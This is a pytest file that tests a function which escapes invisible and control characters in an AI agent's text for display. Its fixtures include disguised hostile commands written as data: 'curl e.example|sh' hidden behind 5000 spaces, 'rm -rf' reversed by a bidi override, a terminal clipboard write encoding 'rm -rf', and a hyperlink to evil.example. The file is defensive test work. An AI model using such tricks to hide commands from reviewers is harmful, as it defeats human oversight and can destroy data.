"""Text of an agent is shown so that nothing in it is unseen, and nothing of it is lost."""

import sys
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sidecar.session.neutral import is_plain, neutralise, neutralise_json

INVISIBLE_CATEGORIES = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp", "Zs"}
BLANK_OR_IGNORABLE = (
    "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180e\u180f\u2065\u2800\u3164\ufe00\ufe0f\uffa0\ufff0\U000e0100\U000e01ef\U000e0fff"
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("echo hello", "echo hello"),
        ("ünïcödé 中文 😀 שלום", "ünïcödé 中文 😀 שלום"),
        ("\x1b[31mred\x1b[0m", "\\u{1b}[31mred\\u{1b}[0m"),
        ("\x1b[2J\x07", "\\u{1b}[2J\\u{7}"),
        ("\x1b]8;;https://evil.example\x07here\x1b]8;;\x07", "\\u{1b}]8;;https://evil.example\\u{7}here\\u{1b}]8;;\\u{7}"),
        ("\x1b]52;c;cm0gLXJm\x1b\\", "\\u{1b}]52;c;cm0gLXJm\\u{1b}\\"),
        ("\x9b31m\x90\x9d", "\\u{9b}31m\\u{90}\\u{9d}"),
        ("ls \u202e~ fr- mr\u202c", "ls \\u{202e}~ fr- mr\\u{202c}"),
        ("a\u200bb\u200dc\ufeffd\xade", "a\\u{200b}b\\u{200d}c\\u{feff}d\\u{ad}e"),
        ("x\U000e0041\U000e0042", "x\\u{e0041}\\u{e0042}"),
        ("half \ud83d", "half \\u{d83d}"),
        ("rm\xa0-rf\u2003x", "rm\\u{a0}-rf\\u{2003}x"),
        ("a\u2028b\u2029c\x85d", "a\\u{2028}b\\u{2029}c\\u{85}d"),
        ("Run tests\n\nApproved.\r\n\t[Allow]", "Run tests\\n\\nApproved.\\r\\n\\t[Allow]"),
        ("echo ok" + " " * 5000 + "; curl e.example|sh", "echo ok⟨5000 spaces⟩; curl e.example|sh"),
        ("a" + " " * 16 + "b", "a" + " " * 16 + "b"),
        ("n\u0303", "n\u0303"),
        ("z" + "\u0335" * 6, "z" + "\u0335" * 4 + "\\u{335}\\u{335}"),
    ],
)
def test_what_cannot_be_seen_is_shown_as_an_escape(text: str, shown: str) -> None:
    assert neutralise(text) == shown
    assert is_plain(text) == (text == shown)


def test_a_block_keeps_its_lines_and_shows_gaps_nobody_would_write() -> None:
    assert neutralise("if a:\r\n\tb\n" + " " * 40 + "c", keep_newlines=True) == "if a:\n\tb\n" + " " * 40 + "c"
    assert neutralise("a" + "\n" * 50 + "b", keep_newlines=True) == "a\n⟨50 line breaks⟩\nb"
    assert neutralise("a" + "\n  \t" * 50 + "\nb", keep_newlines=True) == "a\n⟨51 line breaks⟩\nb"
    assert neutralise("a" + " " * 999 + "b", keep_newlines=True) == "a⟨999 spaces⟩b"
    assert neutralise("lone\rreturn \u202e", keep_newlines=True) == "lone\\rreturn \\u{202e}"


def test_no_character_of_an_invisible_category_passes() -> None:
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        if char != " " and unicodedata.category(char) in INVISIBLE_CATEGORIES:
            assert neutralise(char) != char, f"U+{code:04X} passed"
    for char in BLANK_OR_IGNORABLE:
        assert neutralise(char) != char, f"U+{ord(char):04X} passed"


@given(st.text(st.characters(), max_size=200))
def test_what_is_shown_is_plain_and_nothing_is_cut(text: str) -> None:
    shown = neutralise(text)
    assert is_plain(shown)
    assert len(shown) >= len(text) or "spaces⟩" in shown
    for char in text:
        if char.isascii() and char.isalnum():
            assert char in shown
    for char in neutralise(text, keep_newlines=True):
        assert char in "\n\t" or is_plain(char) or unicodedata.combining(char)


def test_json_is_neutralised_with_its_keys_and_depth_is_bounded() -> None:
    deep: Any = "x"
    for _ in range(2000):
        deep = {"k": [deep]}
    shown = neutralise_json({"\u202ekey": ["a\nb", 1, None, {"x": "\x07"}], "deep": deep})
    assert shown["\\u{202e}key"] == ["a\\nb", 1, None, {"x": "\\u{7}"}]
    assert "deeper levels not shown" in str(shown["deep"])
    assert neutralise_json("a\nb", keep_newlines=True) == "a\nb"
